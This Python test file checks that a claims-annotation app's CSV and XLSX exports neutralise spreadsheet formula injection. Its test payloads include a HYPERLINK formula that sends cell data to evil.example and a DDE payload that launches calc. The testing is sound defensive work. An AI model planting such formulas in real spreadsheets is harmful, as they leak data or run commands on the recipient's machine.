"""Every CSV and XLSX the app writes keeps text that a spreadsheet would run as a formula inert."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from claims.exports.cells import spreadsheet_row, spreadsheet_text
from claims.models import Article, Tag
from tests.helpers import annotate_phrase

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
EVIL_TAG = "=cmd|' /C calc'!A0"
PRICE = "A session costs $450."
INERT = {f"'{payload}" for payload in PAYLOADS}


# --- The function, without a database ----------------------------------------------------------


@pytest.mark.parametrize("payload", [*PAYLOADS, EVIL_TAG], ids=repr)
def test_it_puts_a_quote_before_text_a_spreadsheet_would_run(payload):
    assert spreadsheet_text(payload) == f"'{payload}"


@pytest.mark.parametrize("text", ["Ozone cures all.", "", "2025-01", "a=b", " =1", "€700"])
def test_it_leaves_other_text_as_it_is(text):
    assert spreadsheet_text(text) == text


def test_it_quotes_text_that_already_starts_with_a_quote_so_one_quote_is_always_added():
    assert spreadsheet_text("'=1") == "''=1"
    assert spreadsheet_text("'Miracle' cure") == "''Miracle' cure"


def test_it_leaves_numbers_dates_and_none_as_they_are_and_quotes_only_text():
    values = [-5, 0, 3, -2.5, Decimal("-1.50"), None, "-5"]
    assert spreadsheet_row(values) == [-5, 0, 3, -2.5, Decimal("-1.50"), None, "'-5"]


# --- Every writer, from the database -------------------------------------------------------------


@pytest.fixture
def poisoned(make_article, reviewer) -> list[Article]:
    """One article per payload, its title, publisher and one note set to the payload, the note
    on a tag named EVIL_TAG; and a price claim whose note is the payload. Title and publisher
    are set after ingest, which strips them."""
    evil = Tag.objects.create(slug="calc", name=EVIL_TAG, definition="Runs calc.", colour="#aa0000")
    articles = []
    for number, payload in enumerate(PAYLOADS):
        article = make_article(text=f"Clinic {number}.\nOzone cures all. {PRICE}\n")
        annotate_phrase(reviewer, article, evil.slug, "Ozone cures all.", payload)
        annotate_phrase(reviewer, article, "price-claim", PRICE, payload)
        Article.objects.filter(pk=article.pk).update(title=payload, publisher=payload)
        articles.append(article)
    return articles


def _csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _content(response) -> str:
    assert response.status_code == 200
    if response.streaming:
        return b"".join(response.streaming_content).decode("utf-8")
    return response.content.decode("utf-8")


def test_the_annotation_csv_quotes_notes_tags_titles_and_publishers(client, editor, poisoned):
    client.force_login(editor)
    rows = _csv(_content(client.get(reverse("claims:corpus_export", args=["csv"]))))

    evil = [row for row in rows if row["tag"] == "calc"]
    assert {row["note"] for row in evil} == INERT
    assert {row["tag_name"] for row in evil} == {f"'{EVIL_TAG}"}
    assert {row["article_title"] for row in rows} == INERT
    assert {row["publisher"] for row in rows} == INERT
    assert all(row[column].isdigit() for row in rows for column in ("start", "end", "article_id"))


def test_the_corpus_export_commands_csv_quotes_them_too(poisoned):
    out = io.StringIO()
    call_command("export_corpus", "--format", "csv", stdout=out)
    rows = _csv(out.getvalue())

    assert {row["note"] for row in rows} == INERT
    assert {row["tag_name"] for row in rows} == {f"'{EVIL_TAG}", "Price claim"}
    assert {row["publisher"] for row in rows} == INERT


@pytest.mark.parametrize(
    ("group_by", "column"), [("publisher", "publisher"), ("article", "article_title")]
)
def test_the_counts_csv_quotes_publishers_and_titles(api_for, editor, poisoned, group_by, column):
    response = api_for(editor).get("/api/v1/stats/tags/", {"group_by": group_by, "format": "csv"})
    rows = _csv(_content(response))

    assert {row[column] for row in rows} == INERT
    assert {(row["annotations"], row["articles"]) for row in rows} == {("2", "1")}


def test_the_prices_csv_quotes_publishers_titles_and_notes(client, editor, poisoned):
    client.force_login(editor)
    rows = _csv(_content(client.get(reverse("claims:price_export"))))

    assert len(rows) == len(PAYLOADS)
    for column in ("publisher", "article_title", "note"):
        assert {row[column] for row in rows} == INERT
    assert {(row["minimum"], row["maximum"], row["currency"]) for row in rows} == {
        ("450", "450", "USD")
    }


@pytest.fixture
def workbook_bytes(client, editor, poisoned) -> bytes:
    client.force_login(editor)
    response = client.get(reverse("claims:corpus_report_xlsx"))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_workbook_holds_no_formula(workbook_bytes):
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml
            assert "<f " not in xml


@pytest.mark.parametrize("sheet", ["Tag by publisher", "Most flagged", "By month"])
def test_the_workbook_writes_a_tag_name_in_a_header_as_quoted_text(workbook_bytes, sheet):
    header = next(load_workbook(io.BytesIO(workbook_bytes))[sheet].iter_rows(max_row=1))
    (cell,) = [cell for cell in header if cell.value == f"'{EVIL_TAG}"]
    assert cell.data_type == "s"


def test_the_workbook_writes_annotations_as_quoted_text_and_numbers(workbook_bytes):
    header, *rows = load_workbook(io.BytesIO(workbook_bytes))["Annotations"].iter_rows()
    columns = [cell.value for cell in header]
    evil = [row for row in rows if row[columns.index("Tag")].value == f"'{EVIL_TAG}"]

    for column in ("Article", "Publisher", "Note"):
        cells = [row[columns.index(column)] for row in evil]
        assert {cell.value for cell in cells} == INERT
        assert {cell.data_type for cell in cells} == {"s"}
    starts = [row[columns.index("Start")] for row in rows]
    assert all(isinstance(cell.value, int) and cell.data_type == "n" for cell in starts)


@pytest.fixture
def article_workbook_bytes(client, editor, poisoned) -> bytes:
    """The first poisoned article's report workbook: title, publisher, tag name and notes are
    all payloads."""
    client.force_login(editor)
    response = client.get(reverse("claims:article_report_xlsx", args=[poisoned[0].pk]))
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def test_the_article_workbook_holds_no_formula(article_workbook_bytes):
    with zipfile.ZipFile(io.BytesIO(article_workbook_bytes)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/")]
        assert len(sheets) == 5
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert "<f>" not in xml
            assert "<f " not in xml


def test_the_article_workbook_writes_title_publisher_tags_and_notes_as_quoted_text(
    article_workbook_bytes,
):
    workbook = load_workbook(io.BytesIO(article_workbook_bytes))
    fields = {row[0].value: row[1] for row in workbook["Article"].iter_rows(min_row=2)}
    for field in ("Title", "Publisher"):
        assert (fields[field].value, fields[field].data_type) == (f"'{PAYLOADS[0]}", "s")
    (tag,) = [row[0] for row in workbook["Tags"].iter_rows() if row[0].value == f"'{EVIL_TAG}"]
    assert tag.data_type == "s"
    header, *rows = workbook["Annotations"].iter_rows()
    notes = {row[[cell.value for cell in header].index("Note")].value for row in rows}
    assert notes == {f"'{PAYLOADS[0]}"}


def test_the_article_workbook_writes_prices_as_numbers(article_workbook_bytes):
    _, price = load_workbook(io.BytesIO(article_workbook_bytes))["Prices"].iter_rows()
    sentence, text, written, minimum, maximum, currency, _ = price
    assert (sentence.value, sentence.data_type) == (3, "n")
    assert text.value == PRICE
    assert (minimum.value, maximum.value, minimum.data_type) == (450, 450, "n")
    assert (written.value, currency.value) == ("$450", "USD")
